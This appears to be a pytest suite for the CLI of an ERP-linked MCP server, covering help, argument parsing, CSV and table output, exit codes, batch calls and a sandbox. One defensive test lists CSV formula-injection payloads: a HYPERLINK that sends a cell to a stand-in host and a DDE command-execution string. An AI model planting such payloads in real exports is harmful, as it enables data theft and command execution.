"""Commands as people like them: help where nothing was typed, the nearest right name, tables, CSV, exit codes; and the
embedded company kept apart, started afresh and made to fail."""

import csv
import io
import json
import re
import shlex
import sqlite3
from contextlib import closing
from pathlib import Path

import pytest
from mcp.types import Tool

from fraction_mcp.cli import main
from fraction_mcp.cli.call import _order_line, _typed, _value
from fraction_mcp.cli.exits import code_of_result
from fraction_mcp.cli.tables import as_csv_text, print_table
from fraction_mcp.errors import ConfigError
from fraction_mcp.tools.arguments import read_arguments
from fraction_mcp.tools.catalogue import catalogue
from fraction_mcp.tools.spec import Effect
from tests.terminal import enquiries, small_company, state, terminal, waiting

__all__ = ["small_company", "state"]  # fixtures


def told(capsys: pytest.CaptureFixture[str], *words: str) -> tuple[int, str, str]:
    try:
        code = main(words)
    except SystemExit as stop:
        code = int(stop.code or 0)
    said = capsys.readouterr()
    return code, said.out, said.err


# ---------------------------------------------------------------------------------------------------------------- words


def test_a_bare_command_prints_the_help(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = told(capsys)
    assert code == 0
    assert "setup" in out
    assert "Exit codes: 0 done" in out


@pytest.mark.matrix
@pytest.mark.parametrize(
    ("words", "near"),
    [
        (("cal",), "did you mean call?"),
        (("aprove", "w1"), "did you mean approve?"),
        (("serve", "--sandox"), "did you mean --sandbox?"),
        (("writes", "--state", "unknwon"), "did you mean unknown?"),
        (("install", "cursr"), "did you mean cursor?"),
        (("sandbox", "fault", "--tims", "2"), "did you mean --times?"),
        (("resolve", "w1", "land"), "did you mean landed?"),
        (("tools", "get_prat"), "did you mean get_part?"),
    ],
)
def test_what_is_misspelt_is_named_with_the_nearest(
    capsys: pytest.CaptureFixture[str], state: Path, words: tuple[str, ...], near: str
) -> None:
    code, out, err = told(capsys, *words)
    assert (code, out) == (2, "")
    assert near in err


@pytest.mark.matrix
@pytest.mark.parametrize("words", [("tools", "get_price_for_quantity"), ("call", "get_price_for_quantity", "--help")])
def test_a_tool_s_arguments_are_shown_with_types_effect_and_an_example(
    capsys: pytest.CaptureFixture[str], state: Path, words: tuple[str, ...]
) -> None:
    code, out, _ = told(capsys, *words)
    assert code == 0
    assert "Effect: reads." in out
    assert re.search(r"part  \(text, required\)", out)
    assert re.search(r"customer  \(text, optional\)", out)
    assert "fraction-mcp call --sandbox get_price_for_quantity" in out


@pytest.mark.slow
def test_every_tool_s_example_is_one_that_the_tool_takes(capsys: pytest.CaptureFixture[str], state: Path) -> None:
    for name, spec in catalogue().items():
        if spec.effect is Effect.CONFIRM:  # listed under two_step alone
            continue
        code, shown, _ = told(capsys, "tools", name)
        program, call, sandbox, tool, *pairs = shlex.split(shown.splitlines()[-1])
        assert (code, program, call, sandbox, tool) == (0, "fraction-mcp", "call", "--sandbox", name)
        listed = Tool(name=name, input_schema=spec.input_schema)
        read_arguments(spec, _typed(listed, pairs))


@pytest.mark.parametrize("shell", ["bash", "zsh", "fish"])
def test_a_shell_s_script_knows_every_command_and_tool(capsys: pytest.CaptureFixture[str], shell: str) -> None:
    code, out, _ = told(capsys, "completion", shell)
    assert code == 0
    for word in ("setup", "approve", "get_price_for_quantity", "claude-desktop", "--sandbox"):
        assert word in out


# ------------------------------------------------------------------------------------------------------------ arguments


@pytest.mark.parametrize(
    ("pair", "line"),
    [
        ("WIDGET-001=500", {"part": "WIDGET-001", "quantity": "500"}),
        ("A=B=2.5", {"part": "A=B", "quantity": "2.5"}),
    ],
)
def test_a_part_may_hold_an_equals_sign(pair: str, line: dict[str, str]) -> None:
    assert _order_line(pair) == line


@pytest.mark.parametrize("pair", ["WIDGET-001", "=5", "X=", "X=1,000"])
def test_what_is_no_part_and_quantity_is_told_with_its_spelling(pair: str) -> None:
    with pytest.raises(ConfigError, match=r"PART=QUANTITY|write quantity=1000"):
        _order_line(pair)


TEXTS = {"type": "array", "items": {"type": "string"}}
LINES = {"type": "array", "items": {"type": "object", "properties": {"part": {}, "quantity": {}}}}


@pytest.mark.parametrize(
    ("argument", "typed", "meant"),
    [
        (TEXTS, "status", ["status"]),
        (TEXTS, "status, number", ["status", "number"]),
        (TEXTS, '["a,b"]', ["a,b"]),
        ({"type": "number"}, "1000.5", "1000.5"),
        ({"type": "integer"}, "3", 3),
        ({"type": "boolean"}, "true", True),
        ({"enum": ["", "contracts"]}, "contracts", "contracts"),
    ],
)
def test_arguments_are_taken_as_they_are_typed(argument: dict[str, object], typed: str, meant: object) -> None:
    assert _value("x", argument, typed) == meant


@pytest.mark.parametrize(
    ("argument", "typed", "told"),
    [
        ({"enum": ["parts", "contracts"]}, "contract", "did you mean x=contracts"),
        ({"type": "number"}, "1,000", "write x=1000"),
        ({"type": "integer"}, "12 500", "write x=12500"),
        (LINES, "WIDGET-001", 'write it as .x=.."part": ..., "quantity": ...'),
    ],
)
def test_what_cannot_be_meant_is_told_with_the_nearest_right_spelling(
    argument: dict[str, object], typed: str, told: str
) -> None:
    with pytest.raises(ConfigError, match=told):
        _value("x", argument, typed)


# --------------------------------------------------------------------------------------------------------------- tables


@pytest.mark.process
def test_in_a_pipe_a_table_is_csv_and_its_sentence_is_beside_it(
    capsys: pytest.CaptureFixture[str], state: Path
) -> None:
    code, out, err = told(capsys, "call", "search_parts", "query=widget", "limit=2", "--sandbox")
    rows = list(csv.reader(io.StringIO(out)))
    assert code == 0
    assert rows[0][:2] == ["id", "part_number"]
    assert {len(row) for row in rows} == {len(rows[0])}
    assert err.startswith("SANDBOX  Row")


@pytest.mark.process
def test_csv_of_a_result_without_rows_is_its_list(capsys: pytest.CaptureFixture[str], state: Path) -> None:
    code, out, _ = told(capsys, "price", "WIDGET-001=250", "--csv", "--customer", "Acme Corp", "--sandbox")
    assert code == 0
    (row,) = csv.DictReader(io.StringIO(out))
    assert (row["part_number"], row["quantity"], row["line_total"]) == ("WIDGET-001", "250", "2500.00")


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("http://x.example?"&A1)', "+44 20 7946 0000", "-1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\n=1", " =1",
     "\uff1d1+1"],
)  # fmt: skip
def test_a_cell_that_a_spreadsheet_would_carry_out_is_made_text(cell: str) -> None:
    """Anybody may have typed it into an ERP."""
    assert list(csv.reader(io.StringIO(as_csv_text([["id", cell]]), newline=""))) == [["id", "'" + cell]]


def test_no_line_end_in_a_cell_begins_a_row_of_its_own() -> None:
    assert as_csv_text([["id", "x\r=1"], ["id", "x\r\n=1"]]) == 'id,"x\n=1"\n' * 2


@pytest.mark.parametrize("cell", ["-2.5", "-0.00", "250", "+5", "1e3", "a=b", "x+y", "'=1", "", None, -3])
def test_a_cell_that_is_no_formula_is_as_it_was(cell: object) -> None:
    assert as_csv_text([["id", cell]]) == f"id,{'' if cell is None else cell}\n"


@pytest.mark.parametrize("width", [20, 40, 80, 200])
def test_nothing_is_dropped_and_no_word_is_broken_however_narrow_a_terminal_is(
    capsys: pytest.CaptureFixture[str], width: int
) -> None:
    words = ["HSG-2213", "Bearing housing, 10 mm, with a very-long-description-of-one-word", "EN8"]
    print_table(
        ["part_number", "description", "material", "empty"], [[*words, None], ["B-1", "", "", None]], width=width
    )
    out = capsys.readouterr().out
    for word in " ".join(words).split():
        assert word in out
    assert "(empty in every row: empty)" in out


@pytest.mark.process
def test_on_a_terminal_a_table_is_set_with_the_badge(state: Path) -> None:
    with terminal(state, "call", "search_customers", "query=acme", "--sandbox") as screen:
        assert screen.exit_code() == 0
    plain = re.sub(r"\x1b\[\d*m", "", screen.seen)
    assert plain.startswith("SANDBOX  ")
    assert re.search(r"^(id +.*name|name +Acme Corp)", plain, re.M)


# ---------------------------------------------------------------------------------------------------------------- codes


@pytest.mark.parametrize(
    ("data", "code"),
    [
        ({"summary": "fine"}, 0),
        ({"outcome": "done"}, 0),
        ({"outcome": "failed", "error": {"code": "DUPLICATE"}}, 1),
        ({"outcome": "declined"}, 3),
        ({"outcome": "cancelled"}, 3),
        ({"outcome": "expired"}, 3),
        ({"outcome": "ambiguous"}, 4),
        ({"status": "not_found"}, 4),
        ({"error": {"code": "NOT_FOUND"}}, 4),
        ({"outcome": "awaiting_approval"}, 5),
        ({"outcome": "confirmation_required"}, 5),
        ({"outcome": "unknown", "error": {"code": "OUTCOME_UNKNOWN"}}, 6),
        ({"error": {"code": "OUTCOME_UNKNOWN"}}, 6),
        ({"error": {"code": "UPSTREAM_ERROR"}}, 1),
        ({"error": {"code": "NOT_CONFIGURED"}}, 2),
    ],
)
def test_an_exit_code_says_what_became_of_it(data: dict[str, object], code: int) -> None:
    assert code_of_result(data, failed="error" in data) == code


@pytest.mark.process
def test_the_codes_of_real_calls(capsys: pytest.CaptureFixture[str], state: Path) -> None:
    assert told(capsys, "call", "get_part", "part=no-such-part", "--sandbox")[0] == 4
    assert told(capsys, "call", "create_enquiry", "customer=Acme Corp", "--sandbox")[0] == 5
    assert told(capsys, "call", "create_enquiry", "customer=nobody at all", "--sandbox")[0] == 4


# ---------------------------------------------------------------------------------------------------------------- batch


@pytest.mark.process
def test_a_batch_is_called_in_one_session_a_line_each(
    capsys: pytest.CaptureFixture[str], state: Path, tmp_path: Path
) -> None:
    file = tmp_path / "calls.jsonl"
    calls = [
        {"tool": "get_price_for_quantity", "arguments": {"part": "WIDGET-001", "quantity": 250, "customer": "52"}},
        {"tool": "get_part", "arguments": {"part": "no-such-part"}},
        {"tool": "get_weather"},
        {"tool": "search_customers", "arguments": {"query": "acme"}},
    ]
    file.write_text("\n".join(map(json.dumps, calls)) + "\n\n", "utf-8")
    code, out, err = told(capsys, "call", "--batch", str(file), "--sandbox")
    lines = [json.loads(line) for line in out.splitlines()]
    assert [(line["line"], line["code"]) for line in lines] == [(1, 0), (2, 4), (3, 2), (4, 0)]
    assert lines[0]["result"]["prices"][0]["line_total"] == "2500.00"
    assert (code, err) == (4, "")


@pytest.mark.parametrize("line", ["{", "[]", '{"tool": 1}', '{"tool": "get_part", "args": {}}', '{"arguments": {}}'])
def test_a_batch_with_a_wrong_line_calls_nothing(
    capsys: pytest.CaptureFixture[str], state: Path, tmp_path: Path, line: str
) -> None:
    file = tmp_path / "calls.jsonl"
    file.write_text('{"tool": "search_parts"}\n' + line, "utf-8")
    code, out, err = told(capsys, "call", "--batch", str(file), "--sandbox")
    assert (code, out) == (2, "")
    assert f"{file}:2 " in err


@pytest.mark.process
def test_a_trace_tells_requests_milliseconds_and_tokens(capfd: pytest.CaptureFixture[str], state: Path) -> None:
    assert main(["call", "search_parts", "query=canary-word", "--trace", "--sandbox", "--json"]) == 0
    said = capfd.readouterr()
    assert re.search(r"trace: fractionerp POST /auth/login -> 200, \d+ ms", said.err)
    assert re.search(r"trace: search_parts: ok, \d+ ms, \d+ requests to the ERPs", said.err)
    assert re.search(r"trace: about \d+ tokens", said.err)
    assert "canary-word" not in said.err


# ------------------------------------------------------------------------------------------------------------- deciding


@pytest.mark.process
def test_approve_without_an_id_offers_what_waits(state: Path) -> None:
    first, second = waiting(state, "ONE"), waiting(state, "TWO")
    with terminal(state, "approve", "--sandbox") as screen:
        screen.until(r"Which one\? A number from 1 to 2: ")
        lines = screen.seen.splitlines()
        place = next(line.split()[0] for line in lines if first in line)
        assert any(second in line for line in lines)
        screen.types(f"{place}\n")
        assert "ONE" in screen.until(r"Type yes: ").replace("TWO", "")
        assert "SANDBOX: the embedded company; nothing here is real." in screen.seen
        screen.types("yes\n")
        assert screen.exit_code() == 0
    assert (enquiries(state, "ONE"), enquiries(state, "TWO")) == (1, 0)
    with terminal(state, "decline", second[:6], "--sandbox") as screen:  # the only one, by its beginning
        screen.until(r"Type yes: ")
        screen.types("yes\n")
        assert screen.exit_code() == 0


@pytest.mark.process
def test_where_nothing_waits_that_is_said(state: Path) -> None:
    with terminal(state, "approve", "--sandbox") as screen:
        assert screen.exit_code() == 0
    assert screen.seen == "Nothing waits for a decision.\n"


def test_a_beginning_that_several_writes_share_is_not_enough(state: Path, capsys: pytest.CaptureFixture[str]) -> None:
    waiting(state, "ONE")
    waiting(state, "TWO")
    code, _, err = told(capsys, "writes", "w", "--sandbox")
    assert code == 4
    assert "is not enough to name one write" in err
    assert told(capsys, "writes", "wzzz", "--sandbox")[0] == 4


# -------------------------------------------------------------------------------------------------------------- sandbox


def test_a_reset_starts_the_company_afresh_under_a_running_server(
    state: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with closing(sqlite3.connect(state / "sandbox.sqlite3")) as db, db:
        db.execute("UPDATE customers SET name = 'Changed Ltd' WHERE id = 52")
    code, out, _ = told(capsys, "sandbox", "reset")
    assert code == 0
    assert out.startswith("SANDBOX  ")
    with closing(sqlite3.connect(state / "sandbox.sqlite3")) as db:
        assert db.execute("SELECT name FROM customers WHERE id = 52").fetchone() == ("Acme Corp",)


@pytest.mark.process
def test_a_fault_is_armed_from_outside_and_met_by_another_process(
    state: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = told(capsys, "sandbox", "fault", "status", "--on", "GET/parts", "--status", "403")
    assert (code, "status on GET/parts, 1 times" in out) == (0, True)
    code, _, err = told(capsys, "call", "search_parts", "--sandbox")
    assert code == 1
    assert "FORBIDDEN" in err
    assert told(capsys, "call", "search_parts", "--sandbox")[0] == 0, "it was met once"
    told(capsys, "sandbox", "fault", "after_500", "--on", "*/*", "--times", "7", "--after", "2")
    assert "after_500 on */*" in told(capsys, "sandbox", "fault")[1].replace("**", "*/*")
    assert "Nothing is armed" in told(capsys, "sandbox", "fault", "--clear")[1]


@pytest.mark.parametrize(
    ("words", "why"),
    [
        (("nonsense",), "no fault is called 'nonsense'; there are status"),
        (("status", "--on", "parts"), "write METHOD/PATH, such as POST/parts"),
        (("status", "--times", "0"), "times must be at least 1"),
        (("status", "--status", "99"), "status must be between 200 and 599"),
    ],
)
def test_a_fault_that_makes_no_sense_is_told(
    state: Path, capsys: pytest.CaptureFixture[str], words: tuple[str, ...], why: str
) -> None:
    code, _, err = told(capsys, "sandbox", "fault", *words)
    assert code == 2
    assert why in err


def test_a_profile_and_the_sandbox_exclude_one_another(capsys: pytest.CaptureFixture[str], state: Path) -> None:
    code, _, err = told(capsys, "serve", "--sandbox", "--profile", "x")
    assert code == 2
    assert "not allowed with argument" in err
